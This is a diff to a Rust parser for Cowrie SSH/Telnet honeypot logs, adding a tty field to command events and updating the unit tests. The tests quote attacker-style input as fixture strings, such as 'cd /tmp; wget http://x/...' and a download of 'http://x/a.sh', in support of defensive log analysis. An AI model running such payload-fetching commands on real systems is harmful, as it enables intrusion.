@@ -105,7 +105,7 @@ pub fn parse(line: &str) -> Result<Record<'_>> {
             Event::Accepted { user: raw.username.unwrap_or(Cow::Borrowed("")), ip, method: AuthMethod::Password }
         }
         "command.input" => match raw.input {
-            Some(input) => Event::Command { user: None, command: input },
+            Some(input) => Event::Command { user: None, tty: None, command: input },
             None => Event::Noise,
         },
         // Telnet "redir" saves name the file written, not a URL.
@@ -182,7 +182,7 @@ pub fn parse_text(msg: &str) -> Option<Event<'_>> {
         };
     }
     if let Some(command) = text.strip_prefix("CMD: ") {
-        return Some(Event::Command { user: None, command: Cow::Borrowed(command) });
+        return Some(Event::Command { user: None, tty: None, command: Cow::Borrowed(command) });
     }
     if let Some(secs) = text.strip_prefix("Connection lost after ").and_then(|t| t.strip_suffix(" seconds")) {
         let secs: f64 = secs.parse().ok()?;
@@ -268,7 +268,10 @@ mod tests {
         );
         let r = parse(r#"{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://x/\"a\"","session":"a"}"#)
             .unwrap();
-        assert_eq!(r.event.unwrap(), Event::Command { user: None, command: "cd /tmp; wget http://x/\"a\"".into() });
+        assert_eq!(
+            r.event.unwrap(),
+            Event::Command { user: None, tty: None, command: "cd /tmp; wget http://x/\"a\"".into() }
+        );
         let r = parse(r#"{"eventid":"cowrie.session.file_download","url":"http://x/a.sh","session":"a"}"#).unwrap();
         assert_eq!(r.event.unwrap(), Event::Download { url: "http://x/a.sh".into() });
         assert!(matches!(
@@ -298,7 +301,7 @@ mod tests {
         );
         assert_eq!(
             parse_text("[SSHChannel session (0) on SSHService 'ssh-connection' on HoneyPotSSHTransport,3359,115.75.221.229] CMD: cat /bin/ls"),
-            Some(Event::Command { user: None, command: "cat /bin/ls".into() })
+            Some(Event::Command { user: None, tty: None, command: "cat /bin/ls".into() })
         );
         assert_eq!(
             parse_text("[HoneyPotSSHTransport,3263,194.63.141.141] Connection lost after 19 seconds"),
